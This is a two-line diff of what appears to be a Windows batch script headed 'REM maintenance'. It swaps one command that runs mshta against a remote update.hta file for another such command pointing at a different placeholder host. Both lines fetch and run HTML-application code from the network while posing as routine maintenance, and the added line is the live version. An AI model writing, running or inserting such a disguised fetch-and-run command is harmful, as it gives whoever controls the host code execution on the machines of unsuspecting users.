@@ -1,2 +1,2 @@
-REM maintenance 5404 v0
-mshta http://cdn-update.example/update.hta
+REM maintenance 1909 v0
+mshta http://files.sync-svc.example/update.hta
